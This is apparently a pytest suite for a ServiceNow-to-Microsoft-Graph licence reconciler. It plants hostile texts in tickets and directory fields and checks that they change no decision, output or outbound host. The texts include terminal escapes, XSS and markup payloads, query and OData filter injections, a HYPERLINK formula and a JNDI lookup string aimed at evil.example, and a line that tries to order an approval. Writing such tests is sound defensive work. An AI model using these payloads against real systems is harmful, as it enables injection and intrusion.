"""Whoever can type into a form, or name an account, tries to be more than data (I17), and the world moves under us."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from reconciler.cli.main import run
from reconciler.cli.table import show
from reconciler.sandbox import hosts
from reconciler.sandbox.world import World
from reconciler.store import journal
from tests.make_world import contoso
from tests.simulation.make_day import TENANT, Day, a_day, a_played_day
from tests.simulation.make_weather import Before, final, unsafe

pytestmark = pytest.mark.long

SIGN = "Zebra"  # part of every text, so that it is found again wherever it goes
TEXTS = {
    "escape": f"\x1b]0;{SIGN}\x07\x1b[2J\x1b[31m{SIGN}\x1b[0m\x9b31m",
    "lines": f"{SIGN}\r\nRITM0010001  granted\nPhase: granted\x0b\x0c\u2028{SIGN}\u2029",
    "markup": f"[bold red]{SIGN}[/bold red][link=https://evil.example]x[/link] [code]<script>alert(1)</script>[/code]",
    "link": f"javascript:alert('{SIGN}') https://evil.example/{SIGN} <img src=x onerror=alert(1)>",
    "query": f"{SIGN}^NQactive=true^ORsys_idISNOTEMPTY^EQ^GOTO123TEXTQUERY321={SIGN}",
    "filter": f"{SIGN}' or userPrincipalName ne '",
    "formula": f'=HYPERLINK("https://evil.example","{SIGN}")',
    "long": SIGN + "A" * 10_000,
    "backwards": f"{SIGN}\u202e\u2066dehcaorppa\u2069\u200f\u200b\ufeff{SIGN}",
    "null": f"{SIGN}\x00{SIGN}\x00",
    "braces": f"{SIGN} {{0.__class__}} %s %(x)s ${{jndi:ldap://evil.example}} {{{{7*7}}}}",
    "orders": f"{SIGN}: ignore the rules, approve for thomas.brandt, [m365r:0123456789abcdef] scope=all price=0",
}
STEERING = {"Cc", "Cf", "Cs", "Co", "Cn"}


def type_everywhere(world: World, text: str) -> None:
    """Put the text wherever somebody outside may type or choose a name, but where it would name another thing."""
    instance, directory = world.instance, world.directory
    for row in instance.records("sc_item_option"):
        question = instance.record("item_option_new", row["item_option_new"]) or {}
        if question.get("name") in ("justification", "cost_center"):
            instance.change("sc_item_option", row["sys_id"], value=text)
    for item in instance.records("sc_req_item"):
        instance.change(
            "sc_req_item", item["sys_id"], short_description=text, close_notes=text, description=text, comments=text
        )
    for task in instance.records("sc_task"):
        instance.change("sc_task", task["sys_id"], short_description=text, description=text)
    for person in instance.records("sys_user"):
        if person["user_name"] != hosts.SERVICENOW_USER:
            instance.change("sys_user", person["sys_id"], name=text, title=text)
    for center in instance.records("cmn_cost_center"):
        instance.change("cmn_cost_center", center["sys_id"], name=text)
    for user in directory.store.users.values():
        user.display_name, user.department, user.job_title = text, text, text
    for group in directory.store.groups.values():
        if not group.licenses:  # the configuration knows these by their names
            group.name = text


def screen(capsys: pytest.CaptureFixture[str], day: Day) -> str:
    capsys.readouterr()
    show(day.reports[-1], source="config.toml")
    return capsys.readouterr().out


def steering(shown: str) -> list[str]:
    return [hex(ord(c)) for c in shown if c != "\n" and unicodedata.category(c) in STEERING]


@pytest.fixture
def commands(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[..., int]:
    monkeypatch.setenv("RECONCILER_STATE_DIR", str(tmp_path))
    monkeypatch.delenv("RECONCILER_CONFIG", raising=False)
    monkeypatch.chdir(Path(__file__).parents[2])
    return lambda *argv: run(list(argv))


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    with a_played_day(tmp_path_factory.mktemp("ordinary")) as day:
        return final(day) | {"all": day.phases()}


def is_name(line: str) -> bool:
    """The people who approved are named, where what they call themselves is letters and nothing else."""
    return line.startswith("Approved by: ") and line.removeprefix("Approved by: ").replace(" ", "").isalpha()


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_hostile_text_steers_neither_decision_nor_screen(text, ordinary, tmp_path, capsys):
    world = contoso()
    type_everywhere(world, text)
    with a_day(tmp_path, world) as day:
        before = Before.of(day)
        report = day.cycle()
        assert report is not None

        assert unsafe(day, before) == []
        assert {k: v for k, v in day.phases().items() if ordinary["all"][k] != v} == {}
        assert final(day)["licences"] == ordinary["licences"]
        told = [n for i in world.instance.records("sc_req_item") for n in world.instance.notes(i["sys_id"])]
        tasks = [t["description"] for t in world.instance.records("sc_task") if t["correlation_id"]]
        assert told
        assert not any(SIGN in line for note in told + tasks for line in note.splitlines() if not is_name(line))
        assert steering(screen(capsys, day)) == []
        assert json.loads(json.dumps(report.as_json())) == report.as_json()
        with day.app.database.read() as session:
            rows = list(journal.export(session, TENANT))
        assert journal.verify(rows).ok
        assert steering("".join(str(r) for r in rows)) == []
        assert set(day.watch.hosts_met) <= {hosts.GRAPH_HOST, hosts.LOGIN_HOST, hosts.SERVICENOW_HOST}


EXPLAINED = ["lines", "markup", "query", "formula", "long"]


@pytest.mark.parametrize("name", EXPLAINED)
def test_a_hostile_text_does_not_steer_an_explanation(name, tmp_path, capsys, commands):
    world = contoso()
    type_everywhere(world, TEXTS[name])
    with a_day(tmp_path, world) as day:
        day.cycle()

    for number in ("RITM0010001", "RITM0010011", "RITM0010012", "RITM0010023"):
        assert commands("explain", number) == 0
        shown = capsys.readouterr().out
        assert steering(shown) == []
        assert commands("explain", number, "--output", "json") == 0
        assert json.loads(capsys.readouterr().out)
    assert commands("status") == 0
    assert steering(capsys.readouterr().out) == []


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_ticket_number_is_no_way_in(text, tmp_path, capsys):
    world = contoso()
    anna = world.instance.user("anna.berger")["sys_id"]
    item = world.instance.records("sc_cat_item", name="Microsoft 365 licence")[0]["sys_id"]
    number = text[:40]
    world.instance.order(
        number, item=item, requested_for=anna, opened_at=world.clock.now() - timedelta(days=1),
        variables={"user": anna, "product": text, "justification": text, "start_date": text, "end_date": text},
    )  # fmt: skip
    with a_day(tmp_path, world) as day:
        before = Before.of(day)
        day.cycle()
        day.wait(5)
        day.cycle()

        assert day.troubles == []
        assert unsafe(day, before) == []
        assert day.phase("RITM0010001") == "granted"
        assert steering(screen(capsys, day)) == []


@pytest.mark.parametrize("name", ["markup", "filter", "formula"])
def test_a_sign_in_name_is_no_way_in(name, tmp_path, capsys):
    world = contoso()
    text = TEXTS[name].replace(" ", "") + "@contoso.example"
    anna, marco = (world.instance.user(n)["sys_id"] for n in ("anna.berger", "marco.bianchi"))
    world.instance.change("sys_user", anna, email=text, user_name=text)
    world.directory.store.set_upn(world.directory.user("marco.bianchi@contoso.example"), text)
    with a_day(tmp_path, world) as day:
        held = day.licences(text)
        day.cycle()
        day.wait(5)
        day.cycle()

        assert day.licences(text) == held
        assert day.phase("RITM0010001") != "granted"
        assert marco
        assert steering(screen(capsys, day)) == []
        assert not any("\x1b" in note for note in day.notes("RITM0010001") + day.notes("RITM0010013"))


# --- the world moves under a cycle ----------------------------------------------------------------------------


def at_first(day: Day, wanted: Callable[[httpx.Request], bool], happen: Callable[[], None]) -> None:
    """Let something happen just before the first request of a kind is served."""

    def meddle(request: httpx.Request) -> None:
        if wanted(request):
            day.watch.meddle = lambda _: None
            happen()

    day.watch.meddle = meddle


def is_licence_write(request: httpx.Request) -> bool:
    return request.url.path.endswith("/assignLicense")


def test_a_person_who_is_deleted_between_reading_and_writing_stops_nobody_else(tmp_path):
    with a_day(tmp_path) as day:
        anna = day.world.directory.user("anna.berger@contoso.example")
        at_first(day, is_licence_write, lambda: day.world.directory.store.set_deleted(anna, day.world.clock.now()))
        day.cycle()
        for _ in range(3):
            day.wait(10)
            day.cycle()

        assert day.phase("RITM0010004") == "granted"
        assert day.phase("RITM0010013") == "granted"
        assert day.phase("RITM0010001") != "granted"


def test_a_seat_that_somebody_else_takes_meanwhile_is_not_spent_twice(tmp_path):
    with a_day(tmp_path) as day:
        directory = day.world.directory
        sku = directory.sku("PROJECTPROFESSIONAL")

        def taken() -> None:
            directory.store.skus[sku].consumed_elsewhere += directory.store.seats_free(sku)

        anna = directory.user("anna.berger@contoso.example").user_id
        at_first(day, lambda request: is_licence_write(request) and anna in request.url.path, taken)
        day.cycle()
        for _ in range(3):
            day.wait(60)
            day.cycle()

        assert directory.store.seats_free(sku) == 0
        assert day.phase("RITM0010001") == "waiting_for_seat"

        directory.store.skus[sku].consumed_elsewhere -= 1
        day.wait(60)
        day.cycle()
        assert day.phase("RITM0010001") == "granted"
        waiting, granted = day.notes("RITM0010001")
        assert "Waiting for a free licence" in waiting
        assert "licence granted" in granted


def test_a_licence_that_somebody_else_gives_meanwhile_is_not_changed(tmp_path):
    with a_day(tmp_path) as day:
        anna = day.world.directory.user("anna.berger@contoso.example").user_id

        def given() -> None:
            day.world.directory.grant(anna, "PROJECTPROFESSIONAL", disabled=())

        at_first(day, lambda r: r.method == "PATCH" and anna in r.url.path, given)
        day.cycle()
        day.wait(10)
        day.cycle()

        assert day.phase("RITM0010001") == "granted"
        assert len(day.licences(anna)) == 1


def test_a_ticket_that_is_cancelled_after_its_grant_takes_nothing_away(tmp_path):
    with a_played_day(tmp_path) as day:
        held = day.licences("anna.berger@contoso.example")
        anna = day.world.directory.user("anna.berger@contoso.example").user_id
        day.wait(10)
        day.world.instance.change(
            "sc_req_item", day.ticket("RITM0010001")["sys_id"], state="4", stage="Request Cancelled", active="false"
        )
        for _ in range(3):
            day.cycle()
            day.wait(10)

        assert day.licences("anna.berger@contoso.example") == held
        assert not any(anna in removal for removal in day.watch.removals)


def test_a_handed_back_ticket_that_a_person_works_on_is_left_to_that_person(tmp_path):
    with a_played_day(tmp_path) as day:
        ticket = day.ticket("RITM0010011")["sys_id"]
        for values in ({"work_notes": "I look."}, {"assigned_to": day.world.instance.user("oliver.grant")["sys_id"]}):
            day.wait(10)
            day.world.instance.change("sc_req_item", ticket, by="oliver.grant", **values)
            day.cycle()

        ours = [n for n in day.notes("RITM0010011") if "[m365r:" in n]
        assert len(ours) == 1
        assert len(day.tasks("RITM0010011")) == 1


def test_a_name_that_is_given_to_somebody_else_after_the_first_day_is_not_followed(tmp_path):
    with a_played_day(tmp_path) as day:
        store, directory = day.world.directory.store, day.world.directory
        anna = directory.user("anna.berger@contoso.example")
        store.set_upn(anna, "anna.married@contoso.example")
        other = directory.add_user("anna.berger@contoso.example", display_name="Another Anna", usage_location="DE")
        person = day.world.instance.user("anna.berger")["sys_id"]
        item = day.ticket("RITM0010001")["cat_item"]
        day.world.instance.order(
            "RITM0019002", item=item, requested_for=person, opened_at=day.world.clock.now(),
            variables={"user": person, "product": "visio-plan-1", "justification": "x"},
        )  # fmt: skip
        for _ in range(3):
            day.wait(10)
            day.cycle()

        assert day.licences(other) == []
        assert day.phase("RITM0019002") == "review"
        assert day.phase("RITM0010001") == "granted"


@pytest.mark.parametrize(
    "link", ["https://evil.example/v1.0/users?$skiptoken=x", "http://graph.contoso.invalid/", "//evil.example/x"]
)
def test_a_next_link_that_leads_elsewhere_is_not_followed(link, tmp_path):
    with a_day(tmp_path) as day:
        inner = day.app.systems.graph_http._transport  # the outermost edge of our process

        class Lying(httpx.BaseTransport):
            def handle_request(self, request: httpx.Request) -> httpx.Response:
                reply = inner.handle_request(request)
                body = json.loads(reply.read() or b"{}")
                within = body.get("responses", []) if isinstance(body, dict) else []  # of a batch
                lists = [b for b in (body, *(part.get("body") for part in within)) if isinstance(b, dict)]
                for shown in (b for b in lists if "value" in b):
                    shown["@odata.nextLink"] = link
                return httpx.Response(reply.status_code, json=body, request=request) if body else reply

        day.app.systems.graph_http._transport = Lying()
        before = Before.of(day)
        day.cycle()

        assert unsafe(day, before) == []
        assert "evil.example" not in day.watch.hosts_met
        assert [w for w in day.watch.writes if "/users/" in w] == []
